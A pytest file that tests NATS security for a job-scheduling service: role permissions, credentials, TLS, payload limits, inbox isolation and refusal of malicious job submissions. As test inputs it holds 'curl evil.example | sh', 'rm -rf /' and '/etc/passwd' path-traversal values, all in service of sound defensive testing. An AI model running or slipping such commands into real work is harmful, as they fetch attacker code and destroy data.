"""NATS security on a real nats-server: users and per-role permissions from shared/permissions.py,
credentials from shared/credentials.py, refusals asserted as the server reports them."""

from __future__ import annotations

import asyncio
import logging
import os
import ssl
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import msgspec
import nats.errors
import nats.js.errors
import pytest

from deploy.probe import EXIT_NO_ANSWER, ProbeFailed, ping
from launcher.nats import embedded_nats, nats_from_binary, nats_server_binary
from launcher.setup import provision_now
from shared import credentials, permissions, storage, subjects
from shared.bus import Bus
from shared.schema.jobs import JobSpec
from shared.schema.rounds import ApplyRequest, PlaceRequest

ROOT = Path(__file__).resolve().parent.parent
PASSWORDS = {role: f"{role}Secret{index}x9" for index, role in enumerate((*permissions.ROLES, "user", "bob"))}
LOGINS = ("user", "bob")


def server_config() -> str:
    """Every role in the services' account, and the logins in theirs."""
    return permissions.render_server_config(
        {role: PASSWORDS[role] for role in permissions.ROLES}, {login: PASSWORDS[login] for login in LOGINS}
    )


@pytest.fixture(scope="module")
def secured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """URL of a nats-server (JetStream on) with one user per role and its permissions."""
    workdir = tmp_path_factory.mktemp("secured-nats")
    with nats_from_binary(workdir, config=server_config()) as url:
        provision_now(url, user="operator", password=PASSWORDS["operator"], inbox_prefix="_INBOX_operator")
        yield url


async def connect(url: str, role: str, errors: list[Exception] | None = None, **options) -> Bus:
    async def collect(error: Exception) -> None:
        if errors is not None:
            errors.append(error)

    options.setdefault("inbox_prefix", permissions.inbox_prefix(role))
    return await Bus.connect(
        url,
        f"test-{role}",
        user=role,
        password=PASSWORDS[role],
        error_cb=collect,
        allow_reconnect=False,
        max_reconnect_attempts=1,
        **options,
    )


async def refused_publish(url: str, role: str, subject: str, message) -> list[Exception]:
    """Publish `message` on `subject` as `role` while the executor listens there; return the errors
    the server sent to the publisher, after checking that nothing reached the listener."""
    listener = await connect(url, "executor")
    received: list[bytes] = []

    async def on_message(msg) -> None:
        received.append(msg.data)

    await listener.nc.subscribe(subject, cb=on_message)
    await listener.flush()
    errors: list[Exception] = []
    sender = await connect(url, role, errors)
    try:
        await sender.publish(subject, message)
        await sender.flush()
        for _ in range(50):  # the -ERR arrives asynchronously after the publish
            if errors:
                break
            await asyncio.sleep(0.02)
        await listener.flush()
        assert received == [], f"{role} published on {subject}"
        return errors
    finally:
        await sender.close()
        await listener.close()


def assert_violation(errors: list[Exception], subject: str) -> None:
    text = " ".join(str(error) for error in errors).lower()
    assert "permissions violation for publish" in text and subject.lower() in text, errors


async def test_user_is_refused_when_it_publishes_an_allocation(secured: str) -> None:
    apply = ApplyRequest(now_s=0.0, placements={}, models={}, adaptive=False)
    assert_violation(await refused_publish(secured, "user", subjects.APPLY, apply), subjects.APPLY)
    # A request for a placement gets no answer either: the publish never reaches a placer.
    errors: list[Exception] = []
    user = await connect(secured, "user", errors)
    try:
        with pytest.raises((nats.errors.TimeoutError, nats.errors.NoRespondersError)):
            await user.request(subjects.PLACE, PlaceRequest(round=0, allocations={}), msgspec.Raw, timeout=0.5)
    finally:
        await user.close()
    assert_violation(errors, subjects.PLACE)


async def test_profiler_cannot_publish_on_apply(secured: str) -> None:
    apply = ApplyRequest(now_s=0.0, placements={}, models={}, adaptive=False)
    assert_violation(await refused_publish(secured, "profiler", subjects.APPLY, apply), subjects.APPLY)


@pytest.mark.parametrize(
    "role, subject",
    [
        ("api", subjects.PROFILED),  # a verdict is the profiler's alone
        ("api", subjects.PROFILES),
        ("profiler", subjects.stored(subjects.DEFAULT_TEAM, "user")),  # storing a login's submission is the API's alone
        ("profiler", subjects.CANCEL),
    ],
)
async def test_the_api_and_the_profiler_each_keep_to_their_own_part(secured: str, role: str, subject: str) -> None:
    spec = JobSpec(id="not-yours", application="cifar10")
    assert_violation(await refused_publish(secured, role, subject, spec), subject)


async def test_user_submission_is_stored_in_jetstream(secured: str) -> None:
    from cli.submit import submit

    spec = JobSpec(id="secure-job-1", application="cifar10")
    as_user = credentials.connect_options(
        environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": PASSWORDS["user"]}
    )
    await submit(spec, secured, **as_user)
    reader = await connect(secured, "api")  # as the gate reads it: its durable consumer of the intake
    try:
        info = await reader.js.stream_info(subjects.INTAKE_STREAM, subjects_filter=">")
        assert info.state.subjects == {subjects.intake(subjects.DEFAULT_TEAM, "user"): 1}  # the login's own, its team's
        consumer = await storage.open_consumer(reader, subjects.INTAKE_CONSUMER, JobSpec)
        [delivery] = await consumer.fetch(1, timeout=2)
        assert delivery.message == spec
        await delivery.ack()
    finally:
        await reader.close()


async def test_user_cannot_delete_the_submissions_stream(secured: str) -> None:
    errors: list[Exception] = []
    user = await connect(secured, "user", errors)
    try:
        with pytest.raises((nats.errors.TimeoutError, nats.errors.NoRespondersError)):
            await user.nc.jetstream(timeout=0.5).delete_stream(subjects.JOBS_STREAM)
    finally:
        await user.close()
    assert_violation(errors, f"$JS.API.STREAM.DELETE.{subjects.JOBS_STREAM}")


async def test_message_over_the_size_limit_is_refused(secured: str) -> None:
    user = await connect(secured, "user")
    try:
        assert user.nc.max_payload == permissions.MAX_PAYLOAD_BYTES  # the server's max_payload, told at connect
        with pytest.raises(nats.errors.MaxPayloadError, match="maximum payload exceeded"):
            await user.nc.publish(subjects.submit("user"), b"x" * (permissions.MAX_PAYLOAD_BYTES + 1))
        await user.nc.publish(subjects.submit("user"), b"x" * 16)  # the connection carries on
        await user.flush()
    finally:
        await user.close()


async def test_a_role_cannot_subscribe_to_another_roles_inbox(secured: str) -> None:
    """Replies travel on each role's own inboxes: the policy's placement reply reaches the policy,
    while a user's subscriptions to the policy's inboxes, or to every inbox, are refused."""
    placer = await connect(secured, "placer")

    async def answer(msg) -> None:
        await msg.respond(b"placed")

    await placer.nc.subscribe(subjects.PLACE, cb=answer)
    await placer.flush()
    errors: list[Exception] = []
    spy = await connect(secured, "user", errors)
    overheard: list[str] = []

    async def overhear(msg) -> None:
        overheard.append(msg.subject)

    policy = await connect(secured, "policy")
    try:
        for inbox in (f"{permissions.inbox_prefix('policy')}.>", "_INBOX.>"):
            await spy.nc.subscribe(inbox, cb=overhear)
        await spy.flush()
        reply = await policy.nc.request(subjects.PLACE, b"", timeout=2)
        assert reply.data == b"placed" and reply.subject.startswith("_INBOX_policy.")
        await spy.flush()
    finally:
        for bus in (policy, spy, placer):
            await bus.close()
    assert overheard == []
    text = " ".join(str(error) for error in errors).lower()
    for inbox in ("_inbox_policy.>", "_inbox.>"):
        assert f'permissions violation for subscription to "{inbox}"' in text, errors


async def test_a_service_may_answer_a_request_in_several_parts(secured: str) -> None:
    """A body over max_payload is answered in parts on the one reply subject (shared/bus/requests.py): the
    responder may publish there more than once, and nowhere else."""
    placer = await connect(secured, "placer")
    errors: list[Exception] = []

    async def answer(msg) -> None:
        for part in range(3):
            await placer.nc.publish(msg.reply, f"part {part}".encode())

    await placer.nc.subscribe(subjects.PLACE, cb=answer)
    await placer.flush()
    policy = await connect(secured, "policy", errors)
    try:
        inbox = f"{permissions.inbox_prefix('policy')}.parts"
        parts = await policy.nc.subscribe(inbox)
        await policy.flush()
        await policy.nc.publish(subjects.PLACE, b"", reply=inbox)
        assert [(await parts.next_msg(timeout=2)).data for _ in range(3)] == [b"part 0", b"part 1", b"part 2"]
    finally:
        await policy.close()
        await placer.close()
    assert not errors


async def refused_request(url: str, role: str, call) -> str:
    """Run `call(bus)` as `role`, expecting the server to refuse it; the errors it reported, lower-case."""
    errors: list[Exception] = []
    bus = await connect(url, role, errors)
    try:
        with pytest.raises((nats.errors.TimeoutError, nats.errors.NoRespondersError)):
            await call(bus)
        await bus.flush()
    finally:
        await bus.close()
    return " ".join(str(error) for error in errors).lower()


@pytest.mark.parametrize(
    "role, call, subject",
    [
        (
            "estimator",
            lambda bus: bus.nc.jetstream(timeout=0.5).key_value(subjects.RUNS_BUCKET),
            f"$JS.API.STREAM.INFO.KV_{subjects.RUNS_BUCKET}",
        ),
        (
            "profiler",
            lambda bus: bus.nc.jetstream(timeout=0.5).delete_stream(subjects.JOBS_STREAM),
            f"$JS.API.STREAM.DELETE.{subjects.JOBS_STREAM}",
        ),
        (
            "profiler",
            lambda bus: bus.nc.jetstream(timeout=0.5).consumer_info(subjects.JOBS_STREAM, "executor"),
            f"$JS.API.CONSUMER.INFO.{subjects.JOBS_STREAM}.executor",
        ),
        ("placer", lambda bus: bus.nc.jetstream(timeout=0.5).account_info(), "$JS.API.INFO"),
        (
            "operator",
            lambda bus: bus.nc.jetstream(timeout=0.5).delete_stream(subjects.RUN_LOG_STREAM),
            f"$JS.API.STREAM.DELETE.{subjects.RUN_LOG_STREAM}",
        ),
    ],
)
async def test_jetstream_is_granted_per_stream_consumer_and_bucket(secured: str, role, call, subject) -> None:
    text = await refused_request(secured, role, call)
    assert f'permissions violation for publish to "{subject.lower()}"' in text, text


async def test_a_service_cannot_write_another_services_bucket(secured: str) -> None:
    assert_violation(
        await refused_publish(
            secured,
            "estimator",
            f"$KV.{subjects.RUNS_BUCKET}.live",
            ApplyRequest(now_s=0.0, placements={}, models={}, adaptive=False),
        ),
        f"$KV.{subjects.RUNS_BUCKET}.live",
    )


async def test_wrong_password_is_refused_with_a_clear_error(secured: str) -> None:
    with pytest.raises(nats.errors.Error, match="(?i)authorization violation"):
        await Bus.connect_once(secured, "test-intruder", user="user", password="notThePassword1")


def test_a_users_command_tells_a_missing_login_from_a_refused_one(
    secured: str, tmp_path: Path, monkeypatch, capsys, caplog, no_login
) -> None:
    from cli.main import main

    caplog.set_level(logging.WARNING)
    monkeypatch.chdir(tmp_path)  # no out/stack/user.env here: the command has no login
    assert main(["status", "--server", secured]) == 2
    assert "refused a client without a login" in capsys.readouterr().err
    wrong = tmp_path / "password"
    wrong.write_text("notThePassword1\n")
    job = tmp_path / "job.yaml"
    job.write_text("id: a\napplication: cifar10\n")
    assert (
        main(["submit", str(job), "--server", secured, "--nats-user", "user", "--nats-password-file", str(wrong)]) == 2
    )
    error = capsys.readouterr().err
    assert "refused the login" in error and "notThePassword1" not in error
    # The command's own line is the whole story: no warning of nats-py's before it.
    assert not [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING], caplog.records


def test_a_user_asking_for_the_operators_drain_is_told_at_once_its_login_may_not(
    secured: str, tmp_path: Path, monkeypatch, capsys, no_login
) -> None:
    """The server refuses the publish, so no answer would ever come: the command says so when the
    refusal arrives (not after its 30 s timeout, as "cannot reach NATS")."""
    from cli.main import main

    monkeypatch.chdir(tmp_path)  # no out/stack here: the login is the one given
    password = tmp_path / "user.password"
    password.write_text(PASSWORDS["user"] + "\n")
    assert (
        main(["drain", "cpu-0", "--server", secured, "--nats-user", "user", "--nats-password-file", str(password)]) == 2
    )
    error = capsys.readouterr().err
    assert f"refused this login's request on {subjects.EXECUTOR_DRAIN}" in error and "permissions violation" in error
    assert "operator's login" in error and "cannot reach" not in error, error


def test_service_with_a_password_file_connects_and_answers_ping(secured: str, tmp_path: Path) -> None:
    password_file = tmp_path / "placer.password"
    password_file.write_text(PASSWORDS["placer"] + "\n")
    env = {key: value for key, value in os.environ.items() if not key.startswith("GOODPUT_NATS_")}
    env["GOODPUT_NATS_PASSWORD_FILE"] = str(password_file)  # the file from the environment,
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "services.placer",
            "--server",
            secured,  # the user as an option
            "--nats-user",
            "placer",
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    try:
        # The probe's URL carries the service's own credentials (a service may ping itself; a login
        # may not ask the NATS service API); its replies come back on the service's inboxes.
        host = secured.removeprefix("nats://")
        answer = asyncio.run(
            ping_until_ready(
                process, f"nats://placer:{PASSWORDS['placer']}@{host}", inbox_prefix=permissions.inbox_prefix("placer")
            )
        )
        assert answer["name"] == "placer"
    finally:
        process.terminate()
        output = process.communicate(timeout=10)[0].decode(errors="replace")
    assert "ready" in output, output


async def ping_until_ready(process: subprocess.Popen, server: str, timeout_s: float = 30.0, **options) -> dict:
    deadline = asyncio.get_running_loop().time() + timeout_s
    while True:
        try:
            return await ping("placer", server, timeout_s=1.0, **options)
        except ProbeFailed as failure:
            if (
                failure.code != EXIT_NO_ANSWER
                or process.poll() is not None
                or asyncio.get_running_loop().time() > deadline
            ):
                raise
        await asyncio.sleep(0.1)


@pytest.mark.e2e
def test_service_with_a_missing_password_file_says_so(tmp_path: Path) -> None:
    missing = tmp_path / "nowhere"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "services.placer",
            "--server",
            "nats://127.0.0.1:1",
            "--nats-user",
            "placer",
            "--nats-password-file",
            str(missing),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2
    assert f"--nats-password-file ($GOODPUT_NATS_PASSWORD_FILE): no such file: {missing}" in result.stderr


@pytest.mark.e2e
def test_connect_options(tmp_path: Path) -> None:
    secret = tmp_path / "password"
    secret.write_text("s3cret\n")
    assert credentials.connect_options(credentials.Credentials(user="user", password_file=str(secret)), environ={}) == {
        "user": "user",
        "password": "s3cret",
        "inbox_prefix": "_INBOX_user",
    }
    assert credentials.connect_options(
        environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": "p", "GOODPUT_NATS_INBOX_PREFIX": "_INBOX_mine"}
    ) == {"user": "user", "password": "p", "inbox_prefix": "_INBOX_mine"}
    assert credentials.connect_options(environ={}) == {}
    with pytest.raises(ValueError, match="needs a password"):
        credentials.connect_options(credentials.Credentials(user="user"), environ={})
    with pytest.raises(ValueError, match="no such file"):
        credentials.connect_options(credentials.Credentials(tls_ca=str(tmp_path / "ca.pem")), environ={})
    with pytest.raises(ValueError, match="go together"):
        credentials.connect_options(credentials.Credentials(tls_cert=str(secret)), environ={})
    with pytest.raises(ValueError, match="one way"):
        credentials.connect_options(credentials.Credentials(user="u", token_file=str(secret)), environ={})
    ca = credentials.connect_options(credentials.Credentials(tls_ca=_self_signed(tmp_path)[0]), environ={})
    assert ca["tls"].verify_mode.name == "CERT_REQUIRED"


def _self_signed(directory: Path) -> tuple[str, str]:
    cert, key = directory / "cert.pem", directory / "key.pem"
    subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "1",
            "-subj",
            "/CN=localhost",
            "-addext",
            "subjectAltName=IP:127.0.0.1,DNS:localhost",
            "-keyout",
            str(key),
            "-out",
            str(cert),
        ],
        check=True,
        capture_output=True,
    )
    return str(cert), str(key)


def test_permission_table() -> None:
    allocations = {subjects.PLACE, subjects.APPLY}
    for role, allowed in permissions.ROLES.items():
        if role != "policy":
            assert not allocations & set(allowed.publish), role
            # No wildcard that could reach an allocation: the one subtree a role publishes in whole is
            # the node agents' store of what jobs print (job ids have dots: a token count cannot bound it).
            wide = [s for s in allowed.publish if s.startswith("goodput.") and s.endswith(">")]
            assert wide == ([*subjects.LOGS_SUBJECTS] if role == "executor" else []), (role, wide)
    # The user API is its own service's: no other role answers it, or takes the logins' intake.
    for role, allowed in permissions.ROLES.items():
        assert role == "api" or not set(subjects.API_SUBJECTS) & set(allowed.subscribe), role
        intake = [s for s in allowed.publish if f"{subjects.INTAKE_STREAM}.{subjects.INTAKE_CONSUMER}" in s]
        assert role in ("api", "operator") or not intake, (role, intake)
    user = permissions.login_permissions("user")
    assert set(user.subscribe) == {"_INBOX_user.>"}
    assert subjects.submit("user") in user.publish and subjects.submit("bob") not in user.publish
    assert not [s for s in user.publish if s.startswith(("$JS", "$KV", "_INBOX", "_R_"))]
    assert permissions.login_problem("user") is None and permissions.login_problem("operator")
    assert permissions.login_problem("a.b") and permissions.login_problem("*") and permissions.login_problem("Bob")
    for role, allowed in permissions.ROLES.items():
        # Only the operator makes or changes streams, buckets and consumers; a user publishes to no inbox.
        changes = [
            s
            for s in allowed.publish
            if s.startswith(
                (
                    "$JS.API.STREAM.CREATE",
                    "$JS.API.STREAM.UPDATE",
                    "$JS.API.STREAM.DELETE",
                    "$JS.API.CONSUMER.DURABLE",
                    "$JS.API.STREAM.PURGE.GOODPUT",
                )
            )
        ]
        assert role == "operator" or not changes, (role, changes)
        assert role in permissions.SERVICES or not [s for s in allowed.publish if s.startswith("_INBOX")], role
    for role, allowed in permissions.ROLES.items():
        # no role holds the whole JetStream API or anyone's inboxes but its own
        assert not {"$JS.API.>", "$JS.ACK.>", "_INBOX.>", ">"} & set(allowed.publish + allowed.subscribe), role
        assert [s for s in allowed.subscribe if s.startswith("_INBOX")] == [f"_INBOX_{role}.>"], role


@pytest.mark.e2e
def test_rendered_config_is_valid_for_nats_server(tmp_path: Path) -> None:
    config = tmp_path / "nats.conf"
    roles = {role: PASSWORDS[role] for role in permissions.ROLES}
    config.write_text("jetstream {}\n" + permissions.render_server_config(roles, {"user": PASSWORDS["user"]}))
    check = subprocess.run([str(nats_server_binary()), "-t", "-c", str(config)], capture_output=True, text=True)
    assert check.returncode == 0, check.stderr
    with pytest.raises(ValueError, match="at least 8"):
        permissions.render_accounts({"placer": 'bad"quote'}, {})
    with pytest.raises(ValueError, match="unknown NATS role"):
        permissions.render_accounts({"admin": "longenough1"}, {})
    with pytest.raises(ValueError, match="role of the services"):
        permissions.render_accounts({}, {"placer": "longenough1"})


def test_passwords_from_files_and_environment(tmp_path: Path) -> None:
    (tmp_path / "placer").write_text("fromTheFile1\n")
    passwords = permissions.passwords_from(
        ["placer", "user"], tmp_path, environ={"GOODPUT_NATS_PASSWORD_USER": "fromTheEnv1"}
    )
    assert passwords == {"placer": "fromTheFile1", "user": "fromTheEnv1"}
    with pytest.raises(ValueError, match="GOODPUT_NATS_PASSWORD_PROFILER"):
        permissions.passwords_from(["profiler"], tmp_path, environ={})


@pytest.mark.e2e
async def test_the_stack_runs_a_replay_with_each_service_in_its_role(tmp_path: Path) -> None:
    """The embedded stack as `goodput up` runs it: every service logs in as its own role (a password
    made under the data folder), and a replay completes: the table grants each service what it uses;
    no service's log reports a permissions violation."""
    from launcher.replay import replay
    from launcher.stack import running_services, service_arguments
    from shared.settings import settings_for
    from sim.reference import load_workload

    arguments = service_arguments("sia-hetero-64", None, True, None, 1, None)
    jobs = load_workload(str(ROOT / "examples" / "workloads" / "mixed-40.csv"))[:4]
    with embedded_nats(tmp_path) as server, running_services(server, arguments, tmp_path) as stack:
        bus = await server.connect("test-operator")
        try:
            await asyncio.wait_for(stack.wait_ready(bus), 60)
            report, records = await asyncio.wait_for(
                replay(bus, stack, jobs, "sia", {}, settings_for(None, "sia-hetero-64").name, request_timeout_s=5.0), 60
            )
        finally:
            await bus.close()
        logs = {name: stack.log(name) for name in stack.processes}
        with pytest.raises(nats.errors.Error, match="(?i)authorization"):  # and no one gets in without a login
            await Bus.connect_once(server.url, "anonymous")
    assert len(records.jobs) == 4 and all(r.finish_s is not None for r in records.jobs)
    assert (tmp_path / "secrets" / "policy").stat().st_mode & 0o777 == 0o600
    for name, log in logs.items():
        assert "ermissions violation" not in log, f"{name}:\n{log}"


@pytest.mark.e2e
def test_render_from_the_command_line(tmp_path: Path) -> None:
    for role in ("placer", "user"):
        (tmp_path / role).write_text(PASSWORDS[role])
    env = {key: value for key, value in os.environ.items() if not key.startswith("GOODPUT_NATS_")}
    result = subprocess.run(
        [sys.executable, "-m", "shared.permissions", "--passwords", str(tmp_path), "--roles", "placer"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(f"max_payload: 1048576\nmax_pending: {permissions.MAX_PENDING_BYTES}\naccounts {{")
    assert f'{{user: "placer", password: "{PASSWORDS["placer"]}"' in result.stdout
    assert f'{{user: "user", password: "{PASSWORDS["user"]}"' in result.stdout  # the default login
    missing = subprocess.run(
        [sys.executable, "-m", "shared.permissions", "--passwords", str(tmp_path)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    first_missing = next(role for role in permissions.ROLES if role != "placer")
    assert missing.returncode == 2 and f"GOODPUT_NATS_PASSWORD_{first_missing.upper()}" in missing.stderr


@pytest.mark.e2e
async def test_tls_with_a_ca_file(tmp_path: Path) -> None:
    """A server that requires TLS: a client given the CA (--tls-ca) connects; one without it cannot
    verify the server and is refused."""
    cert, key = _self_signed(tmp_path)
    password_file = tmp_path / "user.password"
    password_file.write_text(PASSWORDS["user"])
    config = f"tls {{\n  cert_file: {cert!r}\n  key_file: {key!r}\n}}\n".replace("'", '"')
    (tmp_path / "nats").mkdir()
    with nats_from_binary(tmp_path / "nats", config=config + server_config()) as url:
        trusted = credentials.connect_options(
            credentials.Credentials(user="user", password_file=str(password_file), tls_ca=cert), environ={}
        )
        bus = await Bus.connect_once(url, "test-tls", **trusted)
        try:
            assert bus.nc.is_connected
            with pytest.raises((nats.errors.TimeoutError, nats.errors.NoRespondersError)):
                await bus.request(
                    subjects.POLICY_STATUS, PlaceRequest(round=0, allocations={}), msgspec.Raw, timeout=0.2
                )  # allowed for a user; nobody serves it here
        finally:
            await bus.close()
        untrusted = credentials.connect_options(
            credentials.Credentials(user="user", password_file=str(password_file)), environ={}
        )
        untrusted["tls"] = ssl.create_default_context()  # the system CAs: not this server's
        with pytest.raises(Exception, match="(?i)certificate verify failed"):
            await Bus.connect_once(url, "test-untrusted", **untrusted)


@pytest.mark.e2e
async def test_submissions_carrying_commands_or_paths_are_refused_with_the_reason(tmp_path: Path) -> None:
    """A JobSpec names the job's code by `application` (or by its own archive in the code store) and
    has no field for a command or a file: a submission with one is refused by the API, the reason recorded for its login, and the profiler
    goes on to profile the next good submission. (Its own server: it reads every refusal.)"""
    from launcher.stack import Stack, service_arguments
    from shared.schema.base import Ack, Count
    from shared.schema.jobs import Rejected

    bad = {
        "bad-command": {"id": "bad-command", "application": "cifar10", "command": "curl evil.example | sh"},
        "bad-script": {"id": "bad-script", "application": "cifar10", "script": "/etc/passwd"},
        "bad-application": {"id": "bad-application", "application": "../../etc/passwd"},
    }
    arguments = service_arguments("sia-hetero-64", None, True, None, 1, None)
    commands = {}
    for service in ("api", "profiler", "estimator"):
        password_file = tmp_path / f"{service}.password"
        password_file.write_text(PASSWORDS[service])
        commands[service] = [
            sys.executable,
            "-m",
            f"services.{service}",
            *arguments[service],
            "--nats-user",
            service,
            "--nats-password-file",
            str(password_file),
        ]
    (tmp_path / "nats").mkdir()
    with nats_from_binary(tmp_path / "nats", config=server_config()) as url:
        provision_now(url, user="operator", password=PASSWORDS["operator"], inbox_prefix="_INBOX_operator")
        stack = Stack({name: [*command, "--server", url] for name, command in commands.items()}, tmp_path)
        for name in commands:
            stack.start(name)
        user, operator = await connect(url, "user"), await connect(url, "operator")
        try:
            await asyncio.wait_for(stack.wait_ready(operator), 60)
            for payload in bad.values():
                await user.js_publish(subjects.submit("user"), payload, msg_id=payload["id"])
            await user.js_publish(
                subjects.submit("user"), JobSpec(id="good-after", application="cifar10"), msg_id="good-after"
            )
            rejected: list[Rejected] = []
            async for record in operator.follow(
                subjects.refused(subjects.DEFAULT_TEAM, "user"), Rejected, idle_timeout=30
            ):
                rejected.append(record)
                if len(rejected) == len(bad):
                    break
            for _ in range(100):  # the good one is profiled: its estimate is stored
                if (await operator.request(subjects.ESTIMATOR_STATUS, Ack(), Count, timeout=5)).n == 1:
                    break
                await asyncio.sleep(0.1)
            assert (await operator.request(subjects.ESTIMATOR_STATUS, Ack(), Count, timeout=5)).n == 1
            logs = {name: stack.log(name) for name in commands}  # before the stop, which logs its own
        finally:
            await user.close()
            await operator.close()
            stack.stop()
    reasons = {next(job for job in bad if job in r.payload): r for r in rejected}
    assert set(reasons) == set(bad), rejected
    assert all(r.subject == subjects.intake(subjects.DEFAULT_TEAM, "user") for r in rejected)  # where it came
    assert "unknown field `command`" in reasons["bad-command"].reason
    assert "unknown field `script`" in reasons["bad-script"].reason
    assert "$.application" in reasons["bad-application"].reason
    assert all("may not carry commands" in r.reason for r in rejected)
    for service in ("api", "profiler"):
        assert "Traceback" not in logs[service], logs[service]


async def test_a_logins_reply_subject_never_reaches_the_services_account(secured: str) -> None:
    """The server's own guard, for a responder that answers whatever reply a request names: a
    login's request with its reply set to the JetStream API reaches the service with the server's
    response mapping as its reply, and the answer goes back to the logins' account: the stream
    stays, and the responder was never refused."""
    executor_errors: list[Exception] = []
    executor = await connect(secured, "api", executor_errors)
    replies: list[str] = []

    async def answer_anything(msg) -> None:
        replies.append(msg.reply)
        await msg.respond(b"{}")

    await executor.nc.subscribe(subjects.API_SCHEMAS, cb=answer_anything)
    await executor.flush()
    user, operator = await connect(secured, "user"), await connect(secured, "operator")
    try:
        before = await operator.js.stream_info(subjects.JOBS_STREAM)
        evil = f"$JS.API.STREAM.DELETE.{subjects.JOBS_STREAM}"
        await user.nc.publish(subjects.API_SCHEMAS, b"", reply=evil)
        await user.flush()
        while not replies:
            await asyncio.sleep(0.02)
        await executor.flush()
        after = await operator.js.stream_info(subjects.JOBS_STREAM)
        assert after.config.name == before.config.name and after.state.first_seq == before.state.first_seq
    finally:
        for bus in (user, operator, executor):
            await bus.close()
    assert replies[0].startswith("_R_.") and not executor_errors, (replies, executor_errors)


@pytest.mark.e2e
async def test_a_held_job_id_is_refused_to_another_body_and_a_malformed_message_changes_nothing(tmp_path: Path) -> None:
    """A job id belongs to its first valid submission: a malformed message naming it, and a different
    valid body under it, are refused on their own (each a rejected entry of its own, the reason with
    it); the same body again is a repeat; the job stays as first submitted."""
    from launcher.stack import running_services, service_arguments
    from shared.schema.records import JobRecords, JobsQuery

    arguments = service_arguments("sia-hetero-64", None, True, None, 1, None)
    with embedded_nats(tmp_path) as server, running_services(server, arguments, tmp_path) as stack:
        operator = await server.connect("test-operator")
        user = await Bus.connect(server.url, "test-user", **server.options("user"))
        try:
            await stack.wait_ready(operator)
            first, mine = JobSpec(id="mine", application="cifar10"), subjects.submit("user")
            await user.js_publish(mine, first)
            await user.js_publish(mine, {"id": "mine", "application": "cifar10", "command": "rm -rf /"})
            await user.js_publish(mine, JobSpec(id="mine", application="ncf", requested_gpus=2))
            await user.js_publish(mine, first)  # no Nats-Msg-Id: not de-duplicated by the stream
            await user.js_publish(mine, JobSpec(id="after", application="cifar10"))
            while True:
                records = (await operator.request(subjects.RECORDS, JobsQuery(), JobRecords, timeout=10)).jobs
                if any(r.name == "after" and r.state == "queued" for r in records):
                    break
                await asyncio.sleep(0.05)
        finally:
            await user.close()
            await operator.close()
    mine = [r for r in records if r.name == "mine"]
    held = [r for r in mine if r.state != "rejected"]
    assert len(held) == 1 and held[0].application == "cifar10" and held[0].state == "queued", mine
    reasons = sorted(r.failure for r in mine if r.state == "rejected")
    assert len(reasons) == 2 and "already exists" in reasons[0] and "unknown field `command`" in reasons[1], reasons


async def test_a_submission_over_its_bound_is_refused_by_the_intake_stream_and_by_goodput_submit(secured: str) -> None:
    from cli.submit import submit

    user = await connect(secured, "user")
    try:
        with pytest.raises(nats.js.errors.APIError, match="(?i)message size exceeds"):
            await user.nc.jetstream().publish(subjects.submit("user"), b"\x81" + b"x" * storage.MAX_INTAKE_BYTES)
    finally:
        await user.close()
    as_user = credentials.connect_options(
        environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": PASSWORDS["user"]}
    )
    huge = JobSpec(id="huge-spec", application="cifar10", gpu_types=tuple(f"t{i}" * 300 for i in range(32)))
    with pytest.raises(ValueError, match="at most 16 KiB"):
        await submit(huge, secured, **as_user)


@pytest.mark.e2e
async def test_a_service_refuses_a_stream_that_is_not_as_the_plan_says(tmp_path: Path) -> None:
    """Only the operator makes the storage; a service finding it missing, or changed (here: its limits
    taken off), stops with a clear message instead of working on it."""
    with embedded_nats(tmp_path) as server:
        operator = await server.connect("test-operator")
        try:
            with pytest.raises(storage.StorageMismatch, match="GOODPUT_JOBS does not exist: the operator creates it"):
                await storage.open_stream(operator, subjects.JOBS_STREAM)
            await storage.provision(operator)
            await storage.open_stream(operator, subjects.JOBS_STREAM)
            info = await operator.js.stream_info(subjects.JOBS_STREAM)
            info.config.max_bytes = -1
            await operator.js.update_stream(info.config)
            with pytest.raises(storage.StorageMismatch, match="max_bytes is -1, the plan says 1073741824"):
                await storage.open_stream(operator, subjects.JOBS_STREAM)
            await storage.provision(operator)  # the operator brings it back to the plan
            await storage.open_stream(operator, subjects.JOBS_STREAM)
            assert storage.total_bytes() < 7 * storage.GIB
        finally:
            await operator.close()
